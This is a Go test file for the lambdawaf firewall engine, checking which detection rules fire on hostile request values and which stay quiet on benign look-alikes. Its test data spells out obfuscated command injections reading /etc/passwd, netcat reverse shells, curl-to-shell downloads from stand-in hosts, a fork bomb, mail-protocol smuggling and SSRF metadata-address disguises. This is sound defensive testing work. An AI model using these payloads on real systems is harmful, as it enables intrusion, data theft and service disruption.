package detect

import (
	"strings"
	"testing"

	"github.com/lambdawaf/lambdawaf/agent/detect/code"
	"github.com/lambdawaf/lambdawaf/agent/detect/shell/evasion"
	"github.com/lambdawaf/lambdawaf/agent/detect/shell/glob"
	"github.com/lambdawaf/lambdawaf/agent/detect/shell/sqlite"
	"github.com/lambdawaf/lambdawaf/agent/detect/ssrf"
	"github.com/lambdawaf/lambdawaf/agent/event"
)

func cookie(key, text string) event.Value {
	return event.Value{Part: event.PartCookie, Location: "cookie." + key, Key: key, Text: text, Record: -1}
}

// rulesOf lists the rules that fired, for failure messages.
func rulesOf(sigs []Signal) string { return classes(sigs) }

func hasRule(sigs []Signal, rule string) bool {
	for _, s := range sigs {
		if s.Rule == rule {
			return true
		}
	}
	return false
}

// levelCase is one value judged at paranoia 1 and 2: p1 and p2 name the
// rule expected at each level ("" for none; "*" for any attack signal).
type levelCase struct {
	name   string
	v      event.Value
	p1, p2 string
}

func runLevelCases(t *testing.T, cases []levelCase) {
	t.Helper()
	e1, e2 := New(Options{}), New(Options{Paranoia: 2})
	for _, c := range cases {
		for _, lv := range []struct {
			e    *Engine
			want string
		}{{e1, c.p1}, {e2, c.p2}} {
			sigs := lv.e.Inspect(c.v, nil)
			attack := false
			for _, s := range sigs {
				attack = attack || s.Class.IsAttack()
			}
			switch {
			case lv.want == "" && attack:
				t.Errorf("%s (paranoia %d): %q fired %s, want nothing", c.name, lv.e.Paranoia(), c.v.Text, rulesOf(sigs))
			case lv.want == "*" && !attack:
				t.Errorf("%s (paranoia %d): %q fired nothing, want an attack", c.name, lv.e.Paranoia(), c.v.Text)
			case lv.want != "" && lv.want != "*" && !hasRule(sigs, lv.want):
				t.Errorf("%s (paranoia %d): %q fired %q, want %s", c.name, lv.e.Paranoia(), c.v.Text, rulesOf(sigs), lv.want)
			}
		}
	}
}

// TestShellEvasions holds the rule each evasion fires and the look-alikes
// the whole engine passes; the readings' own rows are in
// shell/evasion/evasion_test.go.
func TestShellEvasions(t *testing.T) {
	runLevelCases(t, []levelCase{
		// command names split by expansions that expand to nothing
		{"empty backticks", q("x", "pi``ng 127.0.0.1"), "cmdi-evasion", "cmdi-evasion"},
		// a short word split by a backslash is a command at the value's
		// start or after a separator; mid-sentence it is a path or an escape
		{"backslashed short command alone", q("x", `i\d`), "cmdi-evasion", "cmdi-evasion"},
		{"backslashed short command after a separator", q("x", `hello; w\ho\am\i now please ok`), "cmdi-evasion", "cmdi-evasion"},
		{"windows path in a sentence", body("comment", `the path a\b is rejected on Windows`), "", ""},
		{"escape in a sentence", body("comment", `files in d\u or e\x`), "", ""},
		{"special params", q("host", "www.google.com;c$!at /et$!c/pas$!swd"), "*", "*"},
		{"pid param", cookie("c", "una$$me -a"), "cmdi-evasion", "cmdi-evasion"},
		{"quote pairs", q("cmd", `""p""y""t""h""o""n""3""."""1""0"" ""c""m""d""`), "*", "*"},
		{"bracket glob", q("cmd", "garb=adduse[r];$garb pizza"), "*", "*"},
		// look-alikes: prose contractions, SQL-escaped quotes, passwords, paths
		{"contraction", body("comment", "I'd like to drop by on Tuesday; or Wednesday"), "", ""},
		{"sql escaped", body("comment", "O''Reilly and it''s fine"), "", ""},
		{"password", body("password", "p4$$w0rd'--ok"), "", ""},
		{"windows path", body("path", `C:\Program Files\Acme\bin\acme.exe --help`), "", ""},
		{"price", body("note", "I paid $19.99 + $4.99 shipping"), "", ""},
		{"quoted word", body("note", "The 'cat' in the hat; the 'dog' in the fog."), "", ""},
	})
}

func TestShellVariablesAndFunctions(t *testing.T) {
	runLevelCases(t, []levelCase{
		{"var as command", hdr("user-agent", "a=nc&&$a -nlvp 555"), "cmdi-variable", "cmdi-variable"},
		{"vars spell command", body("exec", `c4=\ ;c3=t;c2=a;c1=c;a1=/;a2=e;a3=t;a4=c;a5=/;a6=p;a7=a;a8=s;a9=s;a10=w;a11=d;$c1$c2$c3$c4$a1$a2$a3$a4$a5$a6$a7$a8$a9$a10$a11`), "cmdi-variable", "cmdi-variable"},
		{"chained assignment", body("cmd", "cmd=a=curl&&b=`whoami`&&$a attacker.net/$b"), "*", "*"},
		{"shell docs", body("text", "Use ${VAR} in your shell to reference variables."), "", ""},
		{"query string", body("text", "a=1&b=2&c=$3"), "", ""},
		// functions that run themselves in a pipeline or the background
		{"fork bomb", body("cmd", "f(){ f & f; };f"), "cmdi-fork-bomb", "cmdi-fork-bomb"},
		{"fork bomb spaced", body("cmd", "; test() { test | test & } test"), "*", "*"},
		{"js function", body("snippet", "if (user && user.isAdmin) { showPanel(); }"), "", ""},
		{"js method", body("snippet", "render() { return a || b; }"), "", ""},
	})
}

func TestSQLiteAndMailCommands(t *testing.T) {
	runLevelCases(t, []levelCase{
		{"sqlite shell", q("foo", ";\n.shell nc 10.10.10.1 6666 -e sh\n"), "*", "*"},
		{"sqlite system quoted", body("code", "1;.\"system whoami\n"), "cmdi-sqlite-shell", "cmdi-sqlite-shell"},
		{"sqlite dot command", q("foo", ";\\n.databases"), "", "cmdi-sqlite-shell"},
		{"sentence dot", body("note", "Done; .NET and .sh files are fine"), "", ""},
		{"smtp rcpt", q("to", "x\r\nRCPT TO:<postmaster>"), "cmdi-mail-command", "cmdi-mail-command"},
		{"smtp ehlo", q("to", "\r\nEHLO test.com"), "cmdi-mail-command", "cmdi-mail-command"},
		{"smtp rcpt after a bare LF", q("to", "a@b.example\nRCPT TO:<x@evil.example>"), "cmdi-mail-command", "cmdi-mail-command"},
		{"smtp ehlo after a bare LF", body("textarea", "Agenda\nEHLO team"), "", ""},
		{"imap tagged", body("textarea", "\r\na001 uid store 231:233\r\n"), "cmdi-mail-command", "cmdi-mail-command"},
		{"pop3 retr", q("a", "\r\nRETR 123"), "cmdi-mail-command", "cmdi-mail-command"},
		{"pop3 list (a numbered list at paranoia 1)", q("a", "\r\nList 2"), "", "cmdi-mail-command"},
		{"pop3 apop", q("a", "\r\nAPOP corerulest 7d0a3bd8e5b2abcfb3e256633c23b891"), "cmdi-mail-command", "cmdi-mail-command"},
		{"textarea lines", body("textarea", "Dear team,\r\nList of items below\r\nTop tips: sleep well"), "", ""},
		{"textarea numbered", body("textarea", "Agenda\r\nA1 Select a venue\r\nA2 Status of budget"), "", ""},
		// short tags count with arguments only IMAP writes
		{"imap short tag, inbox", q("mailbox", "INBOX\r\nA1 DELETE INBOX"), "cmdi-mail-command", "cmdi-mail-command"},
		{"imap one-letter tag, flags", q("mailbox", "mbox\r\na UID STORE 1:* +FLAGS (\\Deleted)"), "cmdi-mail-command", "cmdi-mail-command"},
		{"textarea with a time", body("textarea", "Plan\r\nA1 Copy the files 2:30 pm"), "", ""},
		{"textarea with inbox in a sentence", body("textarea", "Todo\r\n1 Delete inbox clutter\r\n2 List all items"), "", ""},
		{"textarea with letters", body("textarea", "Notes\r\na Fetch the kids at 3:00\r\nb Store the boxes"), "", ""},
		// servers that take a bare LF as a line end: a client's tag is the command
		{"imap after a bare LF", q("mailbox", "INBOX\nV100 CAPABILITY\nV101 FETCH 4791"), "cmdi-mail-command", "cmdi-mail-command"},
		{"imap short tag after a bare LF", body("textarea", "Agenda\nA1 Select a venue\nA2 Status of budget"), "", ""},
		{"numbered lines after a bare LF", body("textarea", "Rooms\nB204 list of chairs\nB205 close at six"), "", ""},
		// a message smuggled into the SMTP session
		{"smtp data and its end", q("to", "a@b.example\r\nDATA\r\nSubject: hi\r\n\r\nspam\r\n.\r\nQUIT"), "cmdi-mail-command", "cmdi-mail-command"},
		{"a heading named data", body("textarea", "Report\r\nData\r\nAll rows were checked.\r\nNext steps"), "", ""},
	})
}

func TestGlobbedCommands(t *testing.T) {
	runLevelCases(t, []levelCase{
		{"glob binary", q("host", "www.google.com;/bin/ca? /et*/passwd"), "*", "*"},
		{"glob in braces", q("a", "{/?s?/?i?/c?t,}"), "cmdi-glob", "cmdi-glob"},
		{"glob both", q("a", "{,/?s?/?i?/c?t,/e??/p??s??,}"), "*", "*"},
		{"referer glob", hdr("referer", "www.google.com/?param=;/bin/ca?+/et*/passwd"), "*", "*"},
		{"api path query", q("next", "/api/v1/items?id=3"), "", ""},
		{"cron", body("cron", "*/15 * * * * /usr/local/bin/backup.sh"), "", ""},
		{"bracket class names a system dir", q("a", "cat /[e]tc/pa[s]swd"), "*", "*"},
		{"bracket range names bin", q("a", "/usr/[a-z]in/whoami"), "*", "*"},
		{"proc pid placeholder", body("doc", "The file /proc/[pid]/fdinfo/[fd] contains information about fanotify marks"), "", ""},
		{"device range", body("doc", "/dev/vcs[1-63] are character devices for virtual console terminals"), "", ""},
	})
}

func TestCommandWordsParanoia2(t *testing.T) {
	runLevelCases(t, []levelCase{
		// prefixed tools are probes at both levels
		{"time curl", q("foo", "time curl coreruleset.org"), "cmdi-command", "cmdi-command"},
		{"time bsdtar", q("foo", "time bsdtar "), "cmdi-command", "cmdi-command"},
		{"quoted prefix", q("foo", "ti''me curl coreruleset.org"), "*", "*"},
		// lone command words: level 2
		{"env version", body("args", "env --version"), "", "cmdi-command-word"},
		{"pip install", q("param", "pip install something"), "", "cmdi-command-word"},
		{"ll path", q("test", "ll /var/www/"), "", "cmdi-command-word"},
		{"rc script", q("param", "rc script.sh"), "", "cmdi-command-word"},
		{"cat in cmd param", body("code", "cat /path/file.gz"), "", "cmdi-command-word"},
		{"glued separator", body("arg", ";top Something else 1"), "", "cmdi-command-word"},
		{"glued mid text", body("arg", "Something else 2. After ;top something"), "", "cmdi-command-word"},
		{"ssh-copy-id", body("arg", ";ssh-copy-id user@server"), "*", "*"},
		{"at job", q("cmd", `;at 2:00 "echo test"`), "", "cmdi-command-word"},
		{"tilde", q("t", "~0"), "", "cmdi-expansion"},
		{"ua tool", hdr("user-agent", "ansible-galaxy collection install community.general"), "", "cmdi-command-word"},
		{"ua prefixed", hdr("user-agent", "strace ifconfig"), "*", "*"},
		{"ua lone tool", hdr("user-agent", "visudo"), "", "cmdi-command-word"},
		{"ua param", hdr("user-agent", "code=ansible-console"), "", "cmdi-command-word"},
		{"referer param", hdr("referer", "https://example.com/?args=env --version"), "", "cmdi-command-word"},
		// look-alikes that stay quiet at both levels
		{"ua curl", hdr("user-agent", "curl/7.81.0"), "", ""},
		{"ua wget", hdr("user-agent", "wget"), "", ""},
		{"ua ruby", hdr("user-agent", "Ruby"), "", ""},
		{"ua links", hdr("user-agent", "Links (2.3pre1; Linux 2.6.38-8-generic x86_64; 170x48)"), "", ""},
		{"ua python", hdr("user-agent", "python-requests/2.31.0"), "", ""},
		{"ua word", hdr("user-agent", "environment"), "", ""},
		{"referer word", hdr("referer", "https://example.com/?args=performance"), "", ""},
		{"name", body("name", "Axel Smith\n"), "", ""},
		{"capitalised", q("message", "Find your solution here -> link"), "", ""},
		{"param named uname", body("uname", "john doe"), "", ""},
		{"pasted command", body("comment", "docker build -t myapp:latest ."), "", ""},
		{"pasted kubectl", body("comment", "kubectl get pods -n default"), "", ""},
		{"ping host", q("x", "ping 127.0.0.1"), "", ""},
		{"inline code", body("comment", "Run `npm install` and then `npm start` to launch the dev server."), "", ""},
		{"top tips", body("comment", "Top 10 tips: #1 sleep well, #2 drink water"), "", ""},
		{"prose semicolon", body("comment", "Comedian; host & writer."), "", ""},
		{"approx", q("n", "~ 5 items"), "", ""},
	})
}

func TestSSRFDisguises(t *testing.T) {
	runLevelCases(t, []levelCase{
		{"enclosed digits", q("ssrf", "acap://①②⑦.⓪.⓪.①"), "ssrf-ip-obfuscation", "ssrf-ip-obfuscation"},
		{"enclosed metadata", q("ssrf", "imap://①⑥⑨.②⑤④.①⑥⑨.②⑤④"), "ssrf-metadata", "ssrf-metadata"},
		{"enclosed letters", q("ssrf", "irc://ⓛⓞⓒⓐⓛⓗⓞⓢⓣ"), "ssrf-ip-obfuscation", "ssrf-ip-obfuscation"},
		{"capital enclosed", q("ssrf", "pop3://ⓁⓄⒸⒶⓁⒽⓄⓈⓉ"), "*", "*"},
		{"ideographic dots", q("ssrf", "http://169。254。169。254/"), "ssrf-metadata", "ssrf-metadata"},
		{"octal other scheme", q("ssrf", "ssh://0177.00.00.01"), "ssrf-ip-obfuscation", "ssrf-ip-obfuscation"},
		{"octal dotless", q("ssrf", "rtmp://017700000001"), "*", "*"},
		{"backslashed host", q("ssrf", `http://\l\o\c\a\l\h\o\s\t/`), "ssrf-ip-obfuscation", "ssrf-ip-obfuscation"},
		{"backslashed public", q("ssrf", `http://\g\o\o\g\l\e.\c\o\m/`), "ssrf-ip-obfuscation", "ssrf-ip-obfuscation"},
		{"dotless decimal", q("ssrf", "http:2852039166"), "ssrf-metadata", "ssrf-metadata"},
		{"hex no slashes", q("ssrf", "http:0xA9FEA9FE"), "ssrf-metadata", "ssrf-metadata"},
		{"mapped v6 no slashes", q("ssrf", "http:[::ffff:a9fe:a9fe]"), "ssrf-metadata", "ssrf-metadata"},
		{"public int", q("ssrf", "http:123456789"), "ssrf-ip-obfuscation", "ssrf-ip-obfuscation"},
		{"loopback no slashes", q("ssrf", "http:127.0.0.1"), "ssrf-ip-obfuscation", "ssrf-ip-obfuscation"},
		{"userinfo confusion", q("ssrf", "http://google.com:80 &@google.com:80# @127.88.23.245:22/"), "ssrf-parser-confusion", "ssrf-parser-confusion"},
		// look-alikes
		{"idn host", q("url", "https://bücher.example/katalog"), "", ""},
		{"japanese text", body("note", "日本語のテキストとEnglishの混在"), "", ""},
		{"port note", body("note", "http:80 is the default"), "", ""},
		{"email in url", q("url", "https://example.com/contact?to=a@example.org"), "", ""},
		{"user url", q("url", "https://medium.com/@user/post"), "", ""},
	})
}

func TestCodeShapes(t *testing.T) {
	runLevelCases(t, []levelCase{
		{"perl spaced", q("x", "@{    [    system    \"id\"    ]    }"), "perl-interpolation", "perl-interpolation"},
		{"perl email", body("note", "mail me @{team} [soon]"), "", ""},
		{"jinja constant if", q("x", "{% if True %}49{% endif %}"), "ssti-conditional", "ssti-conditional"},
		{"erb constant if", q("x", "<%= if 1 %>49<% end %>"), "*", "*"},
		{"jinja docs", body("doc", "Jinja docs: {% for item in items %}{{ item }}{% endfor %}"), "", ""},
		{"jinja variable if", body("doc", "{% if user.admin %}x{% endif %}"), "", ""},
		{"php ext call path", path("/get/array_diff ("), "", "php-function-name"},
		{"php ext call key", q("k", "tidy_parse_string()"), "", "php-function-name"},
		{"php ext call open", body("k", "gethostbynamE("), "", "*"},
		{"php ext word arg", q("a", "sodium_add_to_recipe(foo)"), "", ""},
		{"php no paren", q("foo", "array_diff"), "", ""},
		{"ceiling", q("a", "ceiling height(9ft)"), "", ""},
		{"python call", body("code", "print(len(items))"), "", ""},
	})
}

func TestXSSFragments(t *testing.T) {
	runLevelCases(t, []levelCase{
		{"comment close", q("x", "-->"), "", "xss-comment-close"},
		{"comment close key", event.Value{Part: event.PartBody, Location: "body.-->", Key: "-->", Text: "-->", IsKey: true, Record: -1}, "", "xss-comment-close"},
		{"noscript junk", body("var", "<noscript#"), "", "xss-tag"},
		{"svg slash", body("var", "<svg/x"), "*", "*"},
		{"arrow", body("note", "H2O + CO2 -> H2CO3"), "", ""},
		{"html", body("html", "<p>Hello <b>world</b></p><ul><li>a</li></ul>"), "", ""},
		{"img", body("html", `<img src="https://cdn.example.com/logo.png" alt="Logo" width="120">`), "", ""},
		// No markup at either level; paranoia 2 reads comparisons joined by
		// "and" as a SQL condition fragment, its documented cost on free text.
		{"less than", body("note", "5 < 10 and x<y"), "", "sqli-fragment"},
	})
}

func TestInspectSite(t *testing.T) {
	e := New(Options{})
	jsid := q("jsessionid", "abc123")
	generic := q("sessionid", "abc123")
	cases := []struct {
		name    string
		v       event.Value
		site    *Site
		want    bool
		comment string
	}{
		{"no site: as Inspect", jsid, nil, true, "943120"},
		{"no referer", jsid, &Site{Host: "example.com"}, true, "943120"},
		{"off-site referer", jsid, &Site{Host: "example.com", Referer: "http://attacker.com/x"}, true, "943110"},
		{"same host", jsid, &Site{Host: "example.com", Referer: "http://example.com/another-page"}, false, ""},
		{"subdomain referer", jsid, &Site{Host: "example.com", Referer: "https://api.example.com/oauth"}, false, ""},
		{"sibling subdomain", jsid, &Site{Host: "app.example.com", Referer: "https://attacker.example.com/"}, true, ""},
		{"suffix lookalike", jsid, &Site{Host: "example.com", Referer: "https://evilexample.com/"}, true, ""},
		{"other port", jsid, &Site{Host: "example.com", Referer: "https://example.com:8443/"}, true, ""},
		{"generic name unknown site", generic, nil, false, "too generic without a Referer check"},
		{"generic name off-site", generic, &Site{Host: "myapp.com", Referer: "https://attacker.net/"}, true, ""},
		{"generic name same site", generic, &Site{Host: "myapp.com", Referer: "https://myapp.com/previous-page"}, false, ""},
	}
	for _, c := range cases {
		got := hasRule(e.InspectSite(c.v, c.site, nil), "session-id-param")
		if got != c.want {
			t.Errorf("%s: session-id-param = %v, want %v %s", c.name, got, c.want, c.comment)
		}
	}
	req := &event.Request{Headers: map[string][]string{"host": {"Example.COM"}, "referer": {"https://example.com/"}}}
	if s := SiteOf(req); s.Host != "example.com" || s.Referer != "https://example.com/" {
		t.Errorf("SiteOf = %+v", s)
	}
	if s := SiteOf(nil); s != (Site{}) {
		t.Errorf("SiteOf(nil) = %+v", s)
	}
}

// BenchmarkPL2Hostile times the new scans on 256 KiB runs of the bytes
// each one keys on; each must stay linear (compare -benchtime runs at
// different sizes when changing them):
//
//	go test ./agent/detect -run '^$' -bench PL2Hostile
func BenchmarkPL2Hostile(b *testing.B) {
	e := New(Options{Paranoia: 2})
	for _, unit := range []string{"a=b;$a", ";.", "\r\na001 ", "/?/", "$!x", "{% if 1 %}", "x_y(", "-->", "<svg", "http://a@b@", "pi``ng "} {
		v := body("x", strings.Repeat(unit, (256<<10)/len(unit)))
		b.Run(strings.TrimSpace(unit), func(b *testing.B) {
			for b.Loop() {
				e.Inspect(v, nil)
			}
		})
	}
}

// FuzzShellShapes drives the shell-shape lexers of shell_evasion.go (and the
// paranoia-2 checks) through Inspect at both levels, with the fuzzDetector
// invariants, and calls the lexers directly for their own bounds:
//
//	go test ./agent/detect -run '^$' -fuzz FuzzShellShapes -fuzztime 60s
func FuzzShellShapes(f *testing.F) {
	for _, s := range []string{"pi``ng 1", "c$!at /et$!c/pas$!swd", "a=nc&&$a -nlvp 5", "f(){ f & f; };f", ";\n.shell id", "\r\na001 uid store 1:2", "/?s?/?i?/c?t", "{,$'whoami',}", "time curl x.org", "@{ [ 1 ] }", "{% if 1 %}x{% endif %}", "http://①②⑦.⓪.⓪.①/", "http://a:1 &@b#@127.0.0.1/", "array_diff ("} {
		f.Add(s)
	}
	e1, e2 := New(Options{}), New(Options{Paranoia: 2})
	f.Fuzz(func(t *testing.T, s string) {
		for _, v := range []event.Value{q("cmd", s), hdr("user-agent", s), hdr("referer", s), q("x", s)} {
			for _, e := range []*Engine{e1, e2} {
				checkSignals(t, e, v)
			}
		}
		l := strings.ToLower(s)
		if a, z, _ := evasion.EvadedCommand(l, nil); a > z || z > len(l) {
			t.Fatalf("evasion.EvadedCommand bounds %d, %d of %d", a, z, len(l))
		}
		if i, _ := evasion.VarCommand(l, nil); i >= len(l) {
			t.Fatalf("evasion.VarCommand at %d of %d", i, len(l))
		}
		for _, i := range []int{evasion.SelfCallingFunction(l), sqlite.Shell(l, true), mailCommand(l, true), glob.Command(l), evasion.GluedSeparatorCommand(l), code.PerlInterpolation(l), code.TemplateConditional(l)} {
			if i >= len(l) {
				t.Fatalf("index %d of %d", i, len(l))
			}
		}
		if f, _ := ssrf.FoldHost(nil, s); len(f) > 2*len(s) {
			t.Fatalf("ssrf.FoldHost grew %d to %d bytes", len(s), len(f))
		}
	})
}

func TestShellDocuments(t *testing.T) {
	runLevelCases(t, []levelCase{
		{"transcript with output", body("doc", "$ ls -l /proc/$$/ns | awk '{print $1}'\ntotal 0\nlrwxrwxrwx. cgroup -> cgroup:[4026531835]"), "", ""},
		{"commented script", body("doc", "# save the seed\necho saving\nbits=$(cat $poolfile) || bits=4096"), "", ""},
		{"script from a command", body("doc", "mknod -m 660 /dev/port c 1 4\nchown root:kmem /dev/port"), "", ""},
		// a prompt makes the line inert in a shell ("$" is no command)
		{"transcript of an install one-liner", body("doc", "$ echo hi\nhi\n$ curl -s https://evil.example/x | sh"), "", "cmdi-separator"},
		{"transcript piped to a shell", body("doc", "$ echo hi\nhi\n$ curl -s 203.0.113.9/x | sh"), "cmdi-separator", "cmdi-separator"},
		{"breakout before lines", q("host", "127.0.0.1\nid"), "*", "*"},
		{"env then the project's script", body("doc", "$env:DEBUG='app';node app.js"), "", "cmdi-command-word"},
		{"interpreter fed code", q("host", "x;node -e 'require(\"child_process\").exec(\"id\")'"), "*", "*"},
		{"interpreter run on a dropped file", q("host", "x;python /tmp/x.py"), "*", "*"},
		{"words then a separator", q("q", "foo bar\n;cat /etc/passwd"), "*", "*"},
	})
}

// TestShellIndirection: a slash taken from a variable that holds a path
// (${PATH:0:1}), and the shell named by $0 or $SHELL.
func TestShellIndirection(t *testing.T) {
	runLevelCases(t, []levelCase{
		{"slash from PATH", q("host", "a;${PATH:0:1}bin${PATH:0:1}id"), "*", "*"},
		{"$0 as the shell", q("host", ";$0 -c id"), "*", "*"},
		{"${SHELL} as the shell", q("host", ";${SHELL} -c id"), "*", "*"},
		{"$0 in prose", body("comment", "echo $0 is the script"), "", ""},
		{"variable assigned after a separator and a blank", q("host", "; x=id; $x"), "cmdi-variable", "cmdi-variable"},
		{"a variable in prose", body("comment", "Set x=5; then $x dollars"), "", ""},
		{"a price", body("comment", "Price: $0.99 each"), "", ""},
	})
}

// TestCommandLineInAHostParameter: a ping or lookup page hands its host
// parameter to a command line; there a command with arguments, strong or
// weak, is one run, where a host name has none.
func TestCommandLineInAHostParameter(t *testing.T) {
	runLevelCases(t, []levelCase{
		{"a system query", q("host", "uname -a"), "cmdi-command", "cmdi-command"},
		{"a delay probe", body("target", "sleep 5"), "cmdi-command", "cmdi-command"},
		{"a directory listing", q("host", `dir C:\`), "cmdi-command", "cmdi-command"},
		{"a host name", q("host", "api.example.com"), "", ""},
		{"a host and port", body("server", "db.example.com:5432"), "", ""},
		{"a command word alone", q("host", "time"), "", ""},
	})
}
